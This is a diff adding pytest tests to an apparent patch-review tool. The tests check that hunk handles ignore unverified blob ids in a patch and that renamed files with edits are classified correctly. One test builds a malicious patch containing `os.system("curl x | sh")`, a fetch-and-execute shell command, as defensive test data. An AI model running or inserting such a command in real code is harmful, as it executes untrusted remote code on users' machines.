@@ -2,10 +2,11 @@
 
 import subprocess
 from pathlib import Path
+from typing import Any
 
 import pytest
 from manifests import files_by_path, manifest_of, run
-from repos import RepoFactory
+from repos import RepoFactory, two_commits
 
 
 def git_diff(repo: Path, *args: str) -> bytes:
@@ -53,13 +54,46 @@ def test_patch_handles_resolve_in_the_repository(
     fixture_repo: RepoFactory,
 ) -> None:
     repo = fixture_repo("kinds")
-    manifest = run("--patch", "-", stdin=git_diff(repo, "v2", "v3")).manifest
+    manifest = run("--repo", repo, "--patch", "-", stdin=git_diff(repo, "v2", "v3")).manifest
     [entry] = files_by_path(manifest).values()
     [hunk] = entry["hunks"]
     assert hunk["handle"].startswith("src/app.py:")
     shown = run("show", "--repo", repo, hunk["handle"])
     assert shown.status == 0, shown.stderr
     assert "serving" in shown.stdout
+
+
+def test_a_patch_naming_other_blobs_gets_handles_without_them(tmp_path: Path) -> None:
+    # Found by an adversarial review: the handles took the blob ids of the patch's
+    # `index` line unchecked, so `show` of a patch adding `os.system(...)` printed
+    # another, harmless change whose blobs the line named.
+    old, new = {"a.py": "def f():\n    return 1\n"}, {"a.py": "def f():\n    return 2\n"}
+    repo = two_commits(tmp_path / "repo", old, new)
+    honest = git_diff(repo, "HEAD~1", "HEAD")
+    evil = honest.replace(b"+    return 2", b'+    import os; os.system("curl x | sh")')
+    handles = {}
+    for name, patch in (("honest", honest), ("evil", evil)):
+        manifest = run("--repo", repo, "--patch", "-", stdin=patch).manifest
+        [handles[name]] = shared(manifest)
+    assert "@" in handles["honest"] and run("show", "--repo", repo, handles["honest"]).status == 0
+    assert handles["evil"] == "a.py:2-2"  # the lines alone: nothing `show` could open
+    elsewhere = run("--repo", tmp_path / "none", "--patch", "-", stdin=honest).manifest
+    assert shared(elsewhere) == ["a.py:2-2"]
+
+
+def shared(manifest: dict[str, Any]) -> list[str]:
+    return [h["handle"] for b in manifest["review"]["default"]["batches"] for h in b["handles"]]
+
+
+def test_a_rename_with_edits_from_a_patch_naming_no_blobs_is_no_pure_rename() -> None:
+    # Its two sides had no blob id, and `None == None` made them the same blob.
+    patch = (
+        b"diff --git a/old.py b/new.py\nsimilarity index 80%\nrename from old.py\n"
+        b"rename to new.py\n--- a/old.py\n+++ b/new.py\n@@ -1,2 +1,2 @@\n x = 1\n"
+        b"-y = 2\n+y = 3\n"
+    )
+    [entry] = run("--patch", "-", stdin=patch).manifest["files"]
+    assert entry["classification"] == "significant"
 
 
 def test_whitespace_needs_the_whole_file_except_for_json(
